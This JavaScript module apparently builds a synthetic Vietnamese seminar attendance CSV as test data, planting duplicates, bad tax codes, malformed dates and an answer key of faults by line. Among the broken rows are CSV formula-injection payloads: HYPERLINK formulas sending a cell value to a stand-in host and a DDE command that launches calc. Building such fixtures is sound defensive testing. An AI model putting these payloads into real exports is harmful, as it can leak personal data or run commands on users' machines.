import { dateOf } from './calendar.mjs';
import { quote } from './csv.mjs';
import { email, mobile, organisation, person, plain, taxCode, typedPhone } from './people.mjs';
import { place, typedAddress } from './places.mjs';
import { stream } from './random.mjs';

export const seminarHeader = [
  'STT',
  'Họ và tên',
  'Đơn vị',
  'Mã số thuế',
  'Số điện thoại',
  'Email',
  'Địa chỉ',
  'Ngày sinh',
  'Giới tính',
  'Quan tâm',
  'Đồng ý nhận thông tin',
  'Ghi chú',
];
const INTERESTS = [
  ['Máy lọc nước', 40],
  ['Điều hòa', 26],
  ['Gói bảo trì máy lọc nước', 14],
  ['Máy lọc không khí', 10],
  ['Kiểm nghiệm nước', 6],
  ['', 12],
];
/** Numbers of people at the seminar, apart from those of the firm's customers. */
const ATTENDEES = 5_000_000;

/**
 * The attendance list of a seminar, as it came out of a spreadsheet that four people filled in: byte order mark, CRLF,
 * Vietnamese headers, some rows with decomposed letters. Returns the text and what was planted in it, by line number.
 */
export function seminarList(customers, { seed, until }) {
  const random = stream(seed, 'seminar');
  const guests = [
    ...random
      .shuffle(customers)
      .slice(0, Math.min(64, customers.length))
      .map((customer, i) => known(customer, i, random)),
    ...Array.from({ length: 352 }, (_, i) => household(ATTENDEES + i, random, until)),
    ...Array.from({ length: 40 }, (_, i) => firm(ATTENDEES + 400 + i, random)),
  ];
  const twice = guests
    .filter((guest) => guest.known === undefined && guest.phone)
    .slice(0, 27)
    .map((guest) => again(guest, random));
  const rows = [...random.shuffle([...guests, ...twice, ...broken(random)]), unclosed()];
  return write(rows, random);
}

function consent(random) {
  return random.weighted([
    ['đồng ý', 50],
    ['Đồng ý', 8],
    ['không', 14],
    ['', 28],
  ]);
}

/** A customer of the firm who gave the name and phone in another spelling. */
function known(customer, index, random) {
  const oddName = random.weighted([
    [customer.name, 4],
    [customer.name.toUpperCase(), 3],
    [plain(customer.name), 2],
    [`  ${customer.name.replaceAll(' ', '  ')} `, 1],
  ]);
  const isFirm = customer.kind === 'organisation';
  const name = isFirm ? customer.representative : oddName;
  return {
    known: customer.code,
    name,
    unit: isFirm ? customer.name : '',
    tax: isFirm ? customer.taxCode : '',
    phone: typedPhone(customer.phone, random),
    mail: index % 3 === 0 ? customer.email.toUpperCase() : customer.email,
    address: typedAddress(customer.area, random),
    birth: '',
    sex: customer.sex,
    interest: random.weighted(INTERESTS),
    consent: consent(random),
    note: '',
    number: customer.phone,
  };
}

function household(number, random, until) {
  const { name, sex } = person(random);
  const phone = mobile(number, random);
  const born = dateOf(until - random.between(22 * 365, 72 * 365));
  const [year, month, day] = born.split('-');
  const leftPhone = random.chance(0.95);
  return {
    name: random.weighted([
      [name, 10],
      [name.toUpperCase(), 3],
      [`${sex === 'female' ? 'Chị' : 'Anh'} ${name}`, 1],
      [` ${name}`, 1],
    ]),
    unit: '',
    tax: '',
    phone: leftPhone ? typedPhone(phone, random) : '',
    mail: !leftPhone || random.chance(0.72) ? email(name, number % 100_000, random) : '',
    address: random.chance(0.9) ? typedAddress(place(random).area, random) : '',
    birth: random.weighted([
      ['', 40],
      [`${day}/${month}/${year}`, 40],
      [`${Number(day)}/${Number(month)}/${year}`, 12],
      [born, 8],
    ]),
    sex,
    interest: random.weighted(INTERESTS),
    consent: consent(random),
    note: random.weighted([
      ['', 30],
      ['gọi lại buổi tối', 2],
      ['đã dùng máy hãng khác', 2],
      ['hỏi giá, trả góp', 2],
    ]),
    number: phone,
  };
}

function firm(number, random) {
  const { name, sex } = person(random);
  const { name: unit } = organisation(random, number % 1000);
  const right = taxCode((number % 100_000) + 50_000);
  const spoiled = number % 10 === 3;
  const tax = spoiled ? right.slice(0, 9) + ((Number(right[9]) + 1) % 10) : number % 9 === 0 ? `${right}-001` : right;
  const phone = mobile(number, random);
  return {
    name,
    unit,
    tax,
    phone: typedPhone(phone, random),
    mail: email(name, number % 100_000, random),
    address: typedAddress(place(random).area, random),
    birth: '',
    sex,
    interest: random.weighted(INTERESTS),
    consent: consent(random),
    note: random.weighted([
      ['', 3],
      ['cần báo giá số lượng lớn', 1],
      ['xuất hóa đơn công ty', 1],
    ]),
    number: phone,
    wrongTaxCode: spoiled,
  };
}

/** The same guest entered by somebody else at the other desk. */
function again(guest, random) {
  return {
    ...guest,
    repeats: guest.number,
    name: random.chance(0.5) ? plain(guest.name).trim() : guest.name,
    phone: typedPhone(guest.number, random),
    birth: '',
    note: 'đăng ký tại bàn 2',
  };
}

function broken(random) {
  const rows = Array.from({ length: 16 }, (_, i) => household(ATTENDEES + 900 + i, random, 20_000));
  const faults = [
    ...Array(4).fill(['missing_name_and_contact', (row) => Object.assign(row, { name: '', phone: '', mail: '' })]),
    ...Array(3).fill(['too_many_columns', (row) => Object.assign(row, { extra: ['x', '12/11'] })]),
    ...['31/02/1985', 'năm 1985', '1990-13-45'].map((birth) => [
      'garbage_date',
      (row) => Object.assign(row, { birth }),
    ]),
    ...['091234', 'không có', '0000000000'].map((phone) => [
      'garbage_phone',
      (row) => Object.assign(row, { phone, mail: '' }),
    ]),
    ['formula', (row) => Object.assign(row, { note: '=HYPERLINK("http://trung-thuong.example/?q="&E2,"Nhận quà")' })],
    [
      'formula',
      (row) => Object.assign(row, { name: `=HYPERLINK("http://trung-thuong.example","${row.name.trim()}")` }),
    ],
    ['formula', (row) => Object.assign(row, { note: "@SUM(1+1)*cmd|' /C calc'!A0" })],
  ];
  return faults.map(([fault, spoil], i) => {
    if (!rows[i].phone) rows[i].phone = `0${rows[i].number.slice(1)}`;
    spoil(rows[i]);
    return { ...rows[i], fault };
  });
}

function unclosed() {
  return {
    fault: 'unclosed_quote',
    raw: '500,"Nguyễn Thị Bưởi,,,0912 003 004,buoi.nguyen9@mail.example,15 Hàm Nghi Đà Nẵng,,nữ,Điều hòa,đồng ý,',
  };
}

function write(rows, random) {
  const planted = {
    rows: rows.length,
    known: [],
    repeats: [],
    organisations: [],
    wrongTaxCode: [],
    decomposed: [],
    broken: [],
    consent: { yes: 0, no: 0, silent: 0 },
  };
  const seen = new Set();
  const lines = rows.map((row, index) => {
    const line = index + 2;
    if (row.fault) planted.broken.push({ line, fault: row.fault });
    else if (row.known) planted.known.push({ line, code: row.known });
    else if (seen.has(row.number)) planted.repeats.push(line);
    if (!row.fault && !row.known) seen.add(row.number);
    if (row.unit) planted.organisations.push(line);
    if (row.wrongTaxCode) planted.wrongTaxCode.push(line);
    if (row.raw) return row.raw;
    planted.consent[row.consent === '' ? 'silent' : row.consent === 'không' ? 'no' : 'yes']++;
    const sex = { female: 'nữ', male: 'nam' }[row.sex] ?? '';
    const cells = [
      index + 1,
      row.name,
      row.unit,
      row.tax,
      row.phone,
      row.mail,
      row.address,
      row.birth,
      sex,
      row.interest,
      row.consent,
      row.note,
      ...(row.extra ?? []),
    ];
    const text = cells.map(quote).join(',');
    if (!random.chance(0.3)) return text;
    planted.decomposed.push(line);
    return text.normalize('NFD');
  });
  return { text: `\uFEFF${seminarHeader.join(',')}\r\n${lines.join('\r\n')}\r\n`, planted };
}
